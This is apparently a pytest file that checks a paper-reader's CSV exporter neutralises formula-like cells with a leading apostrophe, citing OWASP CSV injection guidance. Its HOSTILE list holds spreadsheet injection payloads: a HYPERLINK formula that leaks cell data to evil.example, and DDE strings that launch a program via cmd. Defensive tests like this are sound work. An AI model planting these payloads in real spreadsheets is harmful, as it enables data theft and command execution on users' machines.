"""CSV out is data for a spreadsheet, never formulas in it: a cell that starts like a formula
(=, +, -, @, tab, carriage return) gets a leading apostrophe, as OWASP's CSV injection
guidance asks; everything else is written as it is."""

from __future__ import annotations

import csv
import io

import pytest

from reader.core.exporters import Annotated, render
from reader.core.model import Paper

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def rows(title: str, note: str = "", tags: list[str] | None = None) -> list[dict[str, str]]:
    paper = Paper(id="2401.00001", title=title, authors=[title])
    item = Annotated(paper=paper, tags=tags or [], note=note, bookmarked=False, read=True)
    return list(csv.DictReader(io.StringIO(render([item], "csv"))))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_starts_like_a_formula_is_text(text: str) -> None:
    [row] = rows(text, note=text, tags=[text])

    for column in ("title", "authors", "note", "tags"):
        assert row[column] == "'" + text


@pytest.mark.parametrize("text", ["Attention is all you need", "x = y + z", "'quoted'", ""])
def test_other_cells_are_written_as_they_are(text: str) -> None:
    [row] = rows(text, note=text)

    assert (row["title"], row["note"], row["read"]) == (text, text, "True")
